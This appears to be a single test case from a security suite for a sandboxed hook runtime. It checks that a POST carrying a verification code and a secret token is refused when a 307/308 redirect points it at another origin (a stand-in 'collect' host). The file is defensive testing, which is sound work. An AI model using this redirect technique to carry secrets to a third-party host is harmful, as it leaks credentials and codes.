# attack: a 307/308 from the tenant's own server towards another origin, hoping the supervisor re-sends the POST body (the code and a credential) there
# expect: ok
def on_execute_send_phone_message(event, api):
    body = {"code": "246810", "token": event.secrets.ATTACKER_TOKEN}
    refused = []
    for status in ("307", "308"):
        target = "https://public.example/collect"
        url = event.fake.base + "/redirect?status=" + status + "&to=" + target
        try:
            api.http.post(url, json=body)
        except ApiError as exc:
            if "another origin" not in exc.args[0]:
                raise Exception("unexpected refusal: " + exc.args[0])
            refused.append(status)
            continue
        return "ESCAPED the body followed a " + status + " to another origin"
    return "denied " + ",".join(refused)
